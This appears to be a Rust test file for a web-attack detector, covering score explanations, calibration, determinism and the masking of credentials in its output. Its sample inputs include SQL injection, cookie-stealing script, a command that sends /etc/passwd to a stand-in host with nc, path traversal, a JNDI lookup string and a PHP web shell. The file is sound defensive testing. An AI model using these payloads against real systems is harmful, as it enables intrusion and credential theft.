//! What an explanation says: every contribution, words for people, and no credentials.

use detect::evidence::Explanation;
use detect::model::Model;
use detect::signatures::Signatures;
use detect::{Detector, Header, Reader, Request};
use proptest::prelude::*;

use super::signature;

fn detector() -> Detector {
    let signatures = Signatures::built_in().expect("the packs are read");
    let model = Model::priors(&signatures);
    Detector::new(signatures, model)
}

fn explain(
    detector: &Detector,
    uri: &str,
    headers: &[(&str, &str)],
    body: Option<&str>,
) -> Explanation {
    let headers: Vec<Header<'_>> = headers
        .iter()
        .map(|(name, value)| Header { name: name.as_bytes(), value: value.as_bytes() })
        .collect();
    let request = Request {
        method: b"POST",
        uri: uri.as_bytes(),
        headers: &headers,
        body: body.map(str::as_bytes),
        ..Request::default()
    };
    let mut reader = Reader::default();
    let explanation = detector.explain(&mut reader, &request);
    assert_eq!(explanation.llr, detector.score(&mut reader, &request).llr, "explained as scored");
    explanation
}

#[test]
fn the_prior_probability_is_the_one_given() {
    let sure = explain(&Detector::shipped(0.5), "/?a=1", &[], None);
    let doubtful = explain(&Detector::shipped(0.001), "/?a=1", &[], None);
    assert_eq!((sure.pi, doubtful.pi), (0.5, 0.001));
    assert!(sure.probability > doubtful.probability);
}

const ATTACKS: &[&str] = &[
    "1' or '1'='1' -- -",
    "<script>alert(document.cookie)</script>",
    ";cat /etc/passwd|nc 192.0.2.1 99",
    "../../../../etc/shadow",
    "${jndi:ldap://192.0.2.1/a}",
    "<?php system($_GET['c']); ?>",
];

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| {
            if byte.is_ascii_alphanumeric() {
                char::from(byte).to_string()
            } else {
                format!("%{byte:02X}")
            }
        })
        .collect()
}

#[test]
fn contributions_add_up_to_the_llr() {
    for (detector, bent) in [(detector(), false), (Detector::shipped(0.001), true)] {
        let mut calibrated = 0;
        for attack in ATTACKS.iter().chain(&["it's (a) 'b'; c", "plain words", ""]) {
            let uri = format!("/search?q={}&page=2", encoded(attack));
            let explanation = explain(&detector, &uri, &[], None);
            let off = explanation.sum() - explanation.llr;
            assert!(off.abs() < 1e-4, "{attack}: {explanation:?}");
            calibrated += usize::from(explanation.calibration != 0.0);
        }
        assert_eq!(calibrated > 0, bent, "only what was learnt is calibrated");
    }
}

/// Finds `union` in every value and name.
fn looking_everywhere() -> Detector {
    let pack = signature("a.any", "needs = ['union']\nplaces = ['value', 'name']");
    let signatures = Signatures::parse([("test", pack.as_str())]).expect("a valid pack");
    let model = Model::priors(&signatures);
    Detector::new(signatures, model)
}

#[test]
fn planted_credentials_are_never_shown() {
    let detector = looking_everywhere();
    let secret =
        proptest::string::string_regex("[a-z]{5,9}[0-9][a-z]{3}[0-9][a-z]{2}[0-9]{2}[a-z]{6}")
            .expect("a pattern");
    let names = [
        "password",
        "db_password",
        "api_key",
        "access-token",
        "client_secret",
        "sessionid",
        "jwt",
        "pwd",
    ];
    let attack = prop::sample::select(vec![" union select 1", "' union all", "<x> union"]);
    proptest!(|(secret in secret, name in prop::sample::select(names.to_vec()), attack in attack, form in 0..9)| {
        let spaced = attack.replace(' ', "+");
        let (uri, header, body) = match form {
            0 => (format!("/?{name}={secret}{spaced}"), None, None),
            1 => (format!("/?q={spaced}+{name}={secret}"), None, None),
            2 => ("/".to_owned(), Some(("authorization", format!("Bearer {secret}{attack}"))), None),
            3 => ("/".to_owned(), Some(("cookie", format!("{name}={secret}; a={attack}"))), None),
            4 => ("/".to_owned(), None, Some(format!("{{\"{name}\": \"{secret}\", \"q\": \"{attack}\"}}"))),
            5 => ("/".to_owned(), None, Some(format!("{attack} <{name}>{secret}</{name}>"))),
            6 => (format!("/?u=https://me:{secret}@host/{spaced}"), None, None),
            7 => ("/".to_owned(), None, Some(format!("{attack} authorization: basic {secret}"))),
            _ => (format!("/?q={}", encoded(&format!("{attack} {name}: '{secret}'"))), None, None),
        };
        let headers: Vec<_> = header.iter().map(|(name, value)| (*name, value.as_str())).collect();
        let explanation = explain(&detector, &uri, &headers, body.as_deref());
        let shown = serde_json::to_string(&explanation).expect("plain data");
        prop_assert!(!shown.contains(&secret), "{shown}");
    });
}

#[test]
fn what_stands_under_a_credentials_key_is_not_shown_however_deep() {
    let detector = looking_everywhere();
    let shown = |uri: &str, body: Option<&str>| {
        let explanation = explain(&detector, uri, &[], body);
        assert!(explanation.evidence.iter().any(|evidence| evidence.id == "a.any"), "{body:?}");
        serde_json::to_string(&explanation).expect("plain data")
    };
    let masked = [
        r#"{"password":{"value":"hunter2' union all"}}"#,
        r#"{"password": {"a": [{"b": 1}, {"c": "hunter2' union all"}]}, "q": "x"}"#,
        r#"{"tokens":["a","hunter2' union all"]}"#,
        r#"{"p\u0061ssword":{"value":"hunter2' union all"}}"#,
        r#"{"password":{"hunter2' union all":"x"}}"#,
        r#"[{"q":"]}"},{"client_secret":{"value":"hunter2' union all"}}]"#,
    ];
    for body in masked {
        let explained = shown("/", Some(body));
        assert!(explained.contains("***") && !explained.contains("hunter2"), "{explained}");
        // The same document as one parameter.
        let explained = shown(&format!("/?data={}", encoded(body)), None);
        assert!(explained.contains("***") && !explained.contains("hunter2"), "{explained}");
    }
    for body in [
        r#"{"password":{"value":"x"},"q":"hunter2' union all"}"#,
        r#"{"a":{"tokens":["x"]},"b":["hunter2' union all"]}"#,
        r#"{"password":["x",{"y":"z"}],"b":{"c":"hunter2' union all"}}"#,
    ] {
        assert!(shown("/", Some(body)).contains("hunter2"), "{body}");
    }
}

#[test]
fn the_same_request_always_scores_the_same() {
    let detector = detector();
    let mut reader = Reader::default();
    let uris: Vec<String> =
        ATTACKS.iter().map(|attack| format!("/a?b={}", encoded(attack))).collect();
    let mut score = |uri: &String| {
        let request = Request { method: b"GET", uri: uri.as_bytes(), ..Request::default() };
        detector.score(&mut reader, &request)
    };
    let once: Vec<_> = uris.iter().map(&mut score).collect();
    let mut again: Vec<_> = uris.iter().rev().map(&mut score).collect();
    again.reverse();
    assert_eq!(once, again);
}
